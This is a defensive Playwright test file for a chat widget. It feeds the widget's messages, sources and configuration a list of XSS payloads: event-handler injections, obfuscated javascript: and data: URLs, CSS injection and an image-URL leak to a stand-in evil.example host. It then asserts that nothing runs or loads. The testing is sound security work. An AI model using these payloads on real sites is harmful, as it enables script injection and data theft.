/** Content that tries to run in the page: nothing of it does, wherever it comes from. */
import { existsSync, readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { ROOT, sharedBrowser } from '../support/browser/browser.ts';
import { chromiumPath } from '../support/browser/chromium.ts';
import { ScriptedModel } from '../support/http/scripted-models.ts';
import { sharedServiceWith } from '../support/http/shared-service.ts';
import { fakeApi } from '../support/widget/fake-api.ts';
import { agentOf, newShop, visit } from '../support/widget/shop.ts';

const OWN = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg/onload=alert(1)>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt&colon;alert(1))',
  '[a](java&#10;script:alert(1))',
  '[a](&#x6a;avascript:alert(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](vbscript:x "t")',
  '[a](//evil.example)',
  '[a](https://bank.example@evil.example/)',
  '![x](https://evil.example/p.png?q=secret)',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '<javascript:alert(1)>',
  '[a]: javascript:alert(1)\n\n[a]',
  '```\n</code></pre><img src=x onerror=alert(1)>\n```',
  '| <b onmouseover=alert(1)>x</b> |\n|---|\n| <iframe src=javascript:alert(1)> |',
  `${'> '.repeat(3000)}deep`,
  `${'['.repeat(2000)}x`,
  '**'.repeat(5000),
];
/** Payloads of DOMPurify's own tests, where the evaluation data lies beside the project. */
const CORPUS_FILE = new URL('../../../shared/evaluation/xss/dompurify-expect.json', import.meta.url);
const CORPUS = existsSync(CORPUS_FILE)
  ? (JSON.parse(readFileSync(CORPUS_FILE, 'utf8')) as { payload: string }[]).map(({ payload }) => payload)
  : [];
const payloads = [...OWN, ...CORPUS];
const ALLOWED =
  /^(?:DIV|SPAN|BDI|P|H2|H3|H4|UL|OL|LI|STRONG|EM|DEL|CODE|PRE|BR|HR|A|BLOCKQUOTE|SUP|TABLE|THEAD|TBODY|TR|TH|TD|B|TIME|BUTTON|SVG|PATH|DETAILS|SUMMARY|I|SECTION|HEADER|FOOTER|FORM|TEXTAREA|LABEL|INPUT)$/i;

/** Elements and attributes of the widget that could run or load something. */
function suspicious(page: Page): Promise<string[]> {
  return page.locator(ROOT).evaluate((host, allowed) => {
    interface Element {
      tagName: string;
      attributes: Iterable<{ name: string; value: string }>;
    }
    const { shadowRoot } = host as unknown as { shadowRoot: { querySelectorAll(all: string): Iterable<Element> } };
    const pattern = new RegExp(allowed, 'i');
    return [...shadowRoot.querySelectorAll('*')].flatMap(({ tagName, attributes }) => [
      ...(pattern.test(tagName) ? [] : [tagName]),
      ...[...attributes].flatMap(({ name, value }) => {
        const isLink = name === 'href' && /^(?:https?|mailto):/.test(value) && !/^https?:\/\/[^/]*@/.test(value);
        const runs = /^(?:on|src|style|action|formaction|xlink)/i.test(name) && name !== 'style';
        return runs || (name === 'href' && !isLink) ? [`${tagName} ${name}=${value}`] : [];
      }),
    ]);
  }, ALLOWED.source);
}

describe.skipIf(chromiumPath === null)('Hostile content', () => {
  const browser = sharedBrowser();
  const model = new ScriptedModel();
  const service = sharedServiceWith(model);

  it('runs nothing and loads nothing in answers, messages of agents, sources, suggestions, welcome and prompts', async () => {
    const shop = await newShop(service());
    const message = (content: string, role: string, index: number) => ({
      messageId: `${role}-${index}`,
      role,
      content,
      sources: [
        { title: content, url: content, snippet: content },
        { title: content, url: 'https://example.com/', snippet: '' },
      ],
      suggestions: [content, content, content],
      feedback: null,
      createdAt: new Date().toISOString(),
    });
    const history = payloads.flatMap((content, index) => [
      ...(index < OWN.length ? [message(content, 'user', index)] : []),
      message(content, 'assistant', index),
      message(content, 'agent', index),
    ]);
    const hostile = payloads.slice(0, 10);
    const visited = await visit(browser(), shop, { html: '<h1>Shop</h1>' });
    const { page, open, errors, requests } = visited;
    await fakeApi(page, {
      config: {
        name: OWN[0],
        welcomeMessage: payloads.join('\n\n').slice(0, 30_000),
        quickPrompts: hostile,
        primaryColor: 'red;} * { background: url(https://evil.example/a) }',
        theme: { bg: 'url(https://evil.example/b)', panelBg: '#fff' },
        avatarUrl: '//evil.example/c.png',
      },
      history,
    });
    let dialogs = 0;
    page.on('dialog', (dialog) => {
      dialogs++;
      void dialog.dismiss();
    });
    await page.evaluate((id) => {
      localStorage.setItem(`chatledger:${id}`, JSON.stringify({ sessionId: 'hostile', isBegun: true }));
    }, shop.config.chatbotId);
    await page.reload();
    const before = requests.length;
    await open();
    const root = page.locator(ROOT);
    await root
      .locator('.message.agent')
      .nth(payloads.length - 1)
      .waitFor({ timeout: 30_000 });
    const relations = await root
      .locator('.message a')
      .evaluateAll((links) => links.map((link) => link.getAttribute('rel')));
    expect(new Set(relations)).toEqual(new Set(['noopener noreferrer nofollow']));
    expect(await suspicious(page)).toEqual([]);
    expect(dialogs).toBe(0);
    expect(errors).toEqual([]);
    const own = new URL(shop.script).origin;
    expect(requests.slice(before).filter((url) => !url.startsWith(own) && !url.startsWith(visited.site))).toEqual([]);
  });

  it('leaves no gaps where links are taken out of an answer', async () => {
    const shop = await newShop(service());
    const { open, askAndRead } = await visit(browser(), shop);
    await open();
    const said = model.script;
    model.script = async function* () {
      yield 'Our shop (https://evil.example/a) is at https://evil.exa';
      yield 'mple/b the river [https://evil.example] . Come in.';
    };
    expect(await askAndRead('Where are you?')).toBe('Our shop is at the river. Come in.');
    model.script = said;
  });

  it('runs nothing and loads nothing in what agents write, as it arrives', async () => {
    const shop = await newShop(service());
    const { page, open, askAndRead, errors, requests, site } = await visit(browser(), shop);
    let dialogs = 0;
    page.on('dialog', (dialog) => {
      dialogs++;
      void dialog.dismiss();
    });
    await open();
    await askAndRead('Hello');
    const agent = await agentOf(shop);
    await agent.takeOver();
    const before = requests.length;
    const messages = inMessages(payloads);
    for (const message of messages) expect((await agent.write(message)).status).toBe(201);
    const written = page.locator(ROOT).locator('.message.agent');
    await written.nth(messages.length - 1).waitFor();
    expect(await suspicious(page)).toEqual([]);
    expect([dialogs, errors]).toEqual([0, []]);
    const own = new URL(shop.script).origin;
    expect(requests.slice(before).filter((url) => !url.startsWith(own) && !url.startsWith(site))).toEqual([]);
  });
});

/** As few messages as hold them all. */
function inMessages(texts: readonly string[]): readonly string[] {
  const messages: string[] = [];
  for (const text of texts.map((each) => each.slice(0, 2_000).toWellFormed())) {
    const longer = `${messages.at(-1) ?? ''}\n\n---\n\n${text}`;
    if (messages.length > 0 && longer.length <= 4_000) messages[messages.length - 1] = longer;
    else messages.push(text);
  }
  return messages;
}
